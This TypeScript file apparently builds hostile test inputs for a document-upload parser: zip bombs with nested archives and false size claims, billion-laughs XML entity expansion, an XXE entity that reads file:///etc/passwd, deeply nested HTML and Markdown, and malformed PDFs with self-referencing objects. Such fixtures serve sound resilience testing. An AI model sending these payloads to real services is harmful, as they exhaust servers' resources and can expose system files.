import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import { zipSync } from 'fflate'

/** A file made to bring its reader down. */
interface Bomb {
  readonly name: string
  /** As it is called when it is sent. */
  readonly file: string
  make(): Uint8Array
}

const bytesOf = (text: string): Buffer => Buffer.from(text, 'latin1')
const MB = 1024 * 1024

interface ZipEntry {
  readonly name: string
  /** Index of the local part that it points to. */
  readonly part: number
  /** What it claims to unpack to. */
  readonly claims: number
}

/** An archive whose directory says what it likes of the parts that are there. Layout: APPNOTE.TXT 4.3. */
function archive(parts: readonly Uint8Array[], entries: readonly ZipEntry[], claimedEntries = entries.length): Buffer {
  const pieces: Buffer[] = []
  const offsets: number[] = []
  let at = 0
  const push = (piece: Buffer): void => {
    pieces.push(piece)
    at += piece.length
  }
  for (const part of parts) {
    offsets.push(at)
    const head = Buffer.alloc(30)
    head.writeUInt32LE(0x04034b50, 0)
    head.writeUInt16LE(8, 8)
    head.writeUInt32LE(part.length, 18)
    head.writeUInt16LE(9, 26)
    push(Buffer.concat([head, bytesOf('word/part'), part]))
  }
  const directory = at
  for (const { name, part, claims } of entries) {
    const head = Buffer.alloc(46)
    head.writeUInt32LE(0x02014b50, 0)
    head.writeUInt16LE(8, 10)
    head.writeUInt32LE(parts[part]?.length ?? 0, 20)
    head.writeUInt32LE(claims, 24)
    head.writeUInt16LE(name.length, 28)
    head.writeUInt32LE(offsets[part] ?? 0, 42)
    push(Buffer.concat([head, bytesOf(name)]))
  }
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(claimedEntries & 0xffff, 8)
  end.writeUInt16LE(claimedEntries & 0xffff, 10)
  end.writeUInt32LE(at - directory, 12)
  end.writeUInt32LE(directory, 16)
  push(end)
  return Buffer.concat(pieces)
}

const DOCUMENT = 'word/document.xml'
const inBody = (xml: string): string => `<w:document xmlns:w="w"><w:body>${xml}</w:body></w:document>`
const docx = (document: string): Uint8Array => zipSync({ [DOCUMENT]: bytesOf(document) }, { level: 9 })
const kernel = (size: number): Buffer => deflateRawSync(Buffer.alloc(size, 'a'))
const alike = (count: number, claims: number): ZipEntry[] =>
  Array.from({ length: count }, (_, index) => ({ name: `word/part${index}.xml`, part: 0, claims }))

/** Archives in the archive, each in the one around it. */
function nested(levels: number): Uint8Array {
  let inner: Uint8Array = docx(inBody('<w:p><w:r><w:t>words</w:t></w:r></w:p>'))
  for (let level = 0; level < levels; level++) inner = zipSync({ 'word/inner.docx': inner }, { level: 0 })
  return inner
}

const LAUGHS = Array.from({ length: 20 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join(
  '',
)

const ZIP_BOMBS: readonly Bomb[] = [
  { name: 'an archive in an archive, a hundred deep', file: 'a.docx', make: () => nested(100) },
  {
    name: 'a thousand entries of ten megabytes that share their bytes',
    file: 'a.docx',
    make: () => archive([kernel(10 * MB)], alike(1000, 10 * MB)),
  },
  {
    name: 'sixty thousand entries that share their bytes and claim to be small',
    file: 'a.docx',
    make: () => archive([kernel(64 * MB)], alike(60_000, 100)),
  },
  {
    name: 'a part that claims four gigabytes',
    file: 'a.docx',
    make: () => archive([kernel(1000)], [{ name: DOCUMENT, part: 0, claims: 0xffff_fff0 }]),
  },
  {
    name: 'a directory that claims more entries than it has',
    file: 'a.docx',
    make: () => archive([kernel(1000)], [{ name: DOCUMENT, part: 0, claims: 1000 }], 0xfffe),
  },
  {
    name: 'a part that unpacks to half a gigabyte and claims a hundred bytes',
    file: 'a.docx',
    make: () => archive([kernel(512 * MB)], [{ name: DOCUMENT, part: 0, claims: 100 }]),
  },
  {
    name: 'a quarter of a gigabyte, packed',
    file: 'a.txt',
    make: () => gzipSync(Buffer.alloc(256 * MB), { level: 1 }),
  },
]

const XML_BOMBS: readonly Bomb[] = [
  {
    name: 'entities that unfold to 10^20 characters',
    file: 'a.docx',
    make: () => docx(`<!DOCTYPE d [<!ENTITY l0 "ha">${LAUGHS}]>${inBody('<w:p><w:r><w:t>&l20;</w:t></w:r></w:p>')}`),
  },
  {
    name: 'an entity that is a file of the server',
    file: 'a.docx',
    make: () =>
      docx(`<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>${inBody('<w:p><w:r><w:t>&x;</w:t></w:r></w:p>')}`),
  },
  {
    name: 'hundreds of thousands of elements in each other',
    file: 'a.docx',
    make: () => docx(inBody('<w:sdt>'.repeat(3e5))),
  },
  { name: 'a million comments that do not end', file: 'a.docx', make: () => docx(inBody('<!--'.repeat(1e6))) },
  { name: 'a million sections that do not end', file: 'a.docx', make: () => docx(inBody('<![CDATA['.repeat(5e5))) },
  { name: 'a million angles and a quote', file: 'a.docx', make: () => docx(inBody(`${'<'.repeat(1e6)}"`)) },
  { name: 'a million tags that do not end', file: 'a.docx', make: () => docx(inBody('<w:p a="b" '.repeat(3e5))) },
]

const TEXT_BOMBS: readonly Bomb[] = [
  { name: 'HTML a million deep', file: 'a.html', make: () => bytesOf(`<html>${'<div>'.repeat(1e6)}words`) },
  {
    name: 'HTML emphasis that never closes',
    file: 'a.html',
    make: () => bytesOf('<html><p>' + '<b><i><p>'.repeat(1e4)),
  },
  { name: 'HTML tables in each other', file: 'a.html', make: () => bytesOf(`<html>${'<table><tr><td>'.repeat(5e3)}`) },
  {
    name: 'an HTML element with two hundred thousand attributes',
    file: 'a.html',
    make: () => bytesOf(`<html><p ${Array.from({ length: 2e5 }, (_, index) => `a${index}`).join(' ')}>words`),
  },
  { name: 'quotes in quotes', file: 'a.md', make: () => bytesOf('>'.repeat(1e6)) },
  { name: 'lists in lists', file: 'a.md', make: () => bytesOf('- '.repeat(2e5)) },
  { name: 'brackets that do not close', file: 'a.md', make: () => bytesOf('['.repeat(5e4)) },
  { name: 'pictures that do not close', file: 'a.md', make: () => bytesOf('![](<'.repeat(1e5)) },
  { name: 'emphasis that does not close', file: 'a.md', make: () => bytesOf('*a _b **c '.repeat(2e4)) },
  {
    name: 'code that never closes the same way',
    file: 'a.md',
    make: () => bytesOf(Array.from({ length: 2000 }, (_, index) => `e${'`'.repeat(index)}`).join('')),
  },
  {
    name: 'a table of many columns in many rows',
    file: 'a.md',
    make: () => bytesOf(`${'|a'.repeat(2e3)}|\n${'|-'.repeat(2e3)}|\n${'|\n'.repeat(5e3)}`),
  },
  { name: 'names of links that are the same', file: 'a.md', make: () => bytesOf('[a]: b\n'.repeat(5e4)) },
]

/** The objects as a PDF, from 1 on; the first is its catalogue. */
function pdf(objects: readonly (string | Buffer)[]): Buffer {
  const pieces: Buffer[] = [bytesOf('%PDF-1.7\n')]
  const offsets: number[] = []
  let at = pieces[0]?.length ?? 0
  const push = (piece: Buffer): void => {
    pieces.push(piece)
    at += piece.length
  }
  objects.forEach((object, index) => {
    offsets.push(at)
    push(
      Buffer.concat([bytesOf(`${index + 1} 0 obj\n`), Buffer.from(object as string, 'latin1'), bytesOf('\nendobj\n')]),
    )
  })
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const count = objects.length + 1
  push(
    bytesOf(
      `xref\n0 ${count}\n0000000000 65535 f \n${rows}trailer\n<</Root 1 0 R/Size ${count}>>\nstartxref\n${at}\n%%EOF\n`,
    ),
  )
  return Buffer.concat(pieces)
}

const stream = (dictionary: string, data: Buffer): Buffer =>
  Buffer.concat([bytesOf(`<<${dictionary}/Length ${data.length}>>stream\n`), data, bytesOf('\nendstream')])
const CATALOGUE = '<</Type/Catalog/Pages 2 0 R>>'
const FONT = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'
const pageOf = (box: string, more = ''): string =>
  `<</Type/Page/Parent 2 0 R/MediaBox[${box}]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>${more}>>>>`
const onePage = (content: Buffer, { box = '0 0 600 800', more = '' } = {}): Buffer =>
  pdf([CATALOGUE, '<</Type/Pages/Kids[3 0 R]/Count 1>>', pageOf(box, more), content, FONT])
const plainContent = (text: string): Buffer => stream('', bytesOf(text))
const WORDS = 'BT /F 12 Tf 50 700 Td (words on a page) Tj ET\n'

const PDF_BOMBS: readonly Bomb[] = [
  {
    name: 'a page as large as a galaxy',
    file: 'a.pdf',
    make: () => onePage(plainContent(WORDS), { box: '-1e38 -1e38 1e38 1e38' }),
  },
  {
    name: 'an empty page as large as a country',
    file: 'a.pdf',
    make: () => onePage(plainContent(' '), { box: '0 0 99999999 99999999' }),
  },
  {
    name: 'a content of a quarter of a gigabyte, packed twice',
    file: 'a.pdf',
    make: () =>
      onePage(
        stream(
          '/Filter[/FlateDecode/FlateDecode]',
          deflateSync(deflateSync(Buffer.alloc(256 * MB, ' '), { level: 1 })),
        ),
      ),
  },
  {
    name: 'arrays two hundred thousand deep',
    file: 'a.pdf',
    make: () => onePage(plainContent(`${WORDS}${'['.repeat(2e5)} TJ`)),
  },
  {
    name: 'dictionaries two hundred thousand deep',
    file: 'a.pdf',
    make: () => pdf([CATALOGUE, '<</Kids'.repeat(2e5)]),
  },
  {
    name: 'thousands of saved states',
    file: 'a.pdf',
    make: () => onePage(plainContent(WORDS + 'q 1 0 0 1 1 1 cm\n'.repeat(5e3))),
  },
  {
    name: 'twenty thousand words in one place',
    file: 'a.pdf',
    make: () => {
      const words = Array.from({ length: 2e4 }, (_, index) => `(word${index}) Tj 0 0 Td `).join('')
      return onePage(plainContent(`BT /F 9 Tf ${words}ET`))
    },
  },
  {
    name: 'a form that draws itself',
    file: 'a.pdf',
    make: () =>
      pdf([
        CATALOGUE,
        '<</Type/Pages/Kids[3 0 R]/Count 1>>',
        pageOf('0 0 600 800', '/XObject<</X 6 0 R>>'),
        plainContent(`/X Do /X Do\n${WORDS}`),
        FONT,
        stream('/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>', bytesOf('/X Do /X Do')),
      ]),
  },
  {
    name: 'pages that hold themselves',
    file: 'a.pdf',
    make: () => pdf([CATALOGUE, `<</Type/Pages/Kids[${'2 0 R '.repeat(1000)}]/Count 1000000000>>`]),
  },
  {
    name: 'objects in a stream that claims a thousand million of them',
    file: 'a.pdf',
    make: () => pdf([CATALOGUE, stream('/Type/ObjStm/N 1000000000/First 10', bytesOf('3 0 4 0 <<>>'))]),
  },
  {
    name: 'a hundred thousand objects',
    file: 'a.pdf',
    make: () =>
      pdf([CATALOGUE, '<</Type/Pages/Kids[]/Count 0>>', ...Array.from({ length: 1e5 }, () => '<</A[0 0 0 0]>>')]),
  },
]

export const BOMBS: readonly Bomb[] = [...ZIP_BOMBS, ...XML_BOMBS, ...TEXT_BOMBS, ...PDF_BOMBS]
